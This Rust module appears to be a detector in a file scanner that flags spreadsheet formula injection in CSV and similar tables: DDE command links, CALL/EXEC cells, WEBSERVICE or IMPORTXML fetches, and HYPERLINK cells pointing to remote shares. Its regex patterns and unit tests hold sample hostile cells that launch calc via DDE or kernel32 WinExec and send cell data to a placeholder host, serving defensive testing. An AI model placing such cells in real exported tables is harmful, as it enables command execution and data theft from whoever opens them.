//! Tables as text, which spreadsheets open by their names, and cells that are formulas which run, fetch or lead somewhere.

use super::finding;
use crate::Findings;
use crate::text::{excerpt, patterns};
use lazaret_model::{Part, Severity, on_this_machine};

patterns! {
    // A formula with a DDE link, `program|'topic'!item`, or the function of LibreOffice.
    DDE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}[=+@-][^\r\n]{0,200}?(?:\b[a-z][a-z0-9_.]{1,30}\|\s*'[^'\r\n]{1,300}'\s*!|\bdde\s*\(\s*["'])"#;
    // Functions that call a library or run a program, and such as fetch. After a sign that prose has as well, only numbers come before.
    CALL_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}(?:[=@][^\r\n,;\t]{0,200}?|[+-][0-9+*/.() -]{0,40})\b(?:call|register(?:\.id)?|exec)\(["']"#;
    FETCH_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}(?:[=@][^\r\n]{0,200}?|[+-][0-9+*/.() -]{0,40})\b(?:webservice|rtd|importdata|importxml|importhtml|importfeed|importrange)\(["'a-z]"#;
    // The same in a cell of a page, which spreadsheets open as a table.
    PAGE_CELL = r#"(?i)>\s{0,20}[=@][^<\r\n]{0,200}?\b(?:call|register(?:\.id)?|exec|webservice|rtd)\((?:["'a-z]|&quot;)"#;
    LINK_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}[=+@-][^\r\n]{0,200}?\bhyperlink\s*\(\s*(?:["']|&quot;){0,4}\s*(?P<place>(?:file:|\\\\)[^"'&\r\n]{1,300})"#;
    PROGRAM = r"(?i)\.(?:exe|com|scr|bat|cmd|ps1|vbs|jse?|wsf|hta|lnk|msi|jar)\s*$";
}

/// Tables as text, which spreadsheets open by their names.
pub(super) fn wants(part: &Part) -> bool {
    part.is("csv")
        || (part.is("text") || part.is("html"))
            && matches!(&*part.extension(), "csv" | "tsv" | "tab" | "slk" | "dif" | "xls")
}

/// Looks at the cells of a table.
pub(super) fn look(part: &Part, text: &str, findings: &mut Findings) {
    if let Some(value) = excerpt(&DDE_CELL, text) {
        let message = "a cell of the table asks another program to run a command (DDE)";
        findings.add(finding("document.dde-cell", Severity::High, message, &value).technique("T1559.002"));
    }
    let page = part.is("html");
    let called = if page { None } else { excerpt(&CALL_CELL, text) };
    if let Some(value) = called {
        let message = "a cell of the table calls a library or runs a program";
        findings.add(finding("document.active-cell", Severity::High, message, &value).technique("T1204.002"));
    }
    if let Some(value) = excerpt(if page { &PAGE_CELL } else { &FETCH_CELL }, text) {
        let message = "a cell of the table fetches something, or sends something away, when the table is opened";
        findings.add(finding("document.active-cell", Severity::Medium, message, &value).technique("T1204.002"));
    }
    let mut places = LINK_CELL.captures_iter(text).filter_map(|found| found.name("place")).map(|place| place.as_str());
    if let Some(place) = places.find(|place| !on_this_machine(place) || PROGRAM.is_match(place)) {
        let message = "a link in a cell of the table leads to another machine's files or to a program";
        let found = finding("document.active-cell", Severity::Medium, message, place).technique("T1187");
        findings.add(found.technique("T1204.002"));
    }
}

#[cfg(test)]
mod tests {
    use super::super::Documents;
    use crate::detectors::test_part::check;

    #[test]
    fn cells_that_run_commands_are_found() {
        const CELL: &str = "document.dde-cell high";
        for (text, expected) in [
            ("a,b\n=cmd|'/c calc'!A1,2\n", &[CELL][..]),
            ("a;\"=2+5+cmd|' /C calc'!A0\"\n", &[CELL]),
            ("@SUM(1+1)*cmd|'/C calc'!A0\n", &[CELL]),
            ("-3+MSEXCEL|'\\..\\calc.exe'!A1\n", &[CELL]),
            ("+DDE(\"cmd\";\"/C calc\";\"x\")\n", &[CELL]),
            ("date,amount\n2026-01-05,-12.50\n,=SUM(A1:A2)\n", &[]),
            ("command,meaning\nls | wc,-counts\ncmd | more,pages\n", &[]),
        ] {
            check(&Documents, "csv", text, expected);
        }
    }

    #[test]
    fn cells_that_call_fetch_or_lead_to_a_share_are_found() {
        const CALLS: &str = "document.active-cell high";
        const FETCHES: &str = "document.active-cell medium";
        for (text, expected) in [
            ("a\n=CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"calc\",1)\n", &[CALLS][..]),
            ("a;\"@REGISTER(\"\"a\"\")\"\n", &[CALLS]),
            ("a\n+1+EXEC(\"calc\")\n", &[CALLS]),
            ("a,\"=1+WEBSERVICE(\"\"https://host.invalid/?\"\"&A1)\"\n", &[FETCHES]),
            ("=IMPORTXML(A1,\"//a\")\n", &[FETCHES]),
            ("=RTD(\"a.b\",\"host.invalid\",\"c\")\n", &[FETCHES]),
            ("a,\"=HYPERLINK(\"\"\\\\host.invalid\\share\\a\"\",\"\"b\"\")\"\n", &[FETCHES]),
            ("=HYPERLINK(\"file://host.invalid/a\")\n", &[FETCHES]),
            ("=HYPERLINK(\"file:///C:/Windows/System32/calc.exe\")\n", &[FETCHES]),
        ] {
            check(&Documents, "csv", text, expected);
        }
    }

    #[test]
    fn what_people_write_in_cells_is_left_alone() {
        for text in [
            "a,=HYPERLINK(\"https://host.invalid/\",\"page\")\n",
            "a,=HYPERLINK(\"file:///C:/data/a.pdf\")\n",
            "task,- call (see below)\n- register (\"new\") users\n",
            "formula,what it does\nWEBSERVICE(\"a\"),fetches\nwrite =CALL in a cell,never\n",
            "a,-exec(utive) board\n+41 44 000 00 00,call (\"Ann\")\n",
            "k=v,call(\"x\")\n",
        ] {
            check(&Documents, "csv", text, &[]);
        }
    }
}
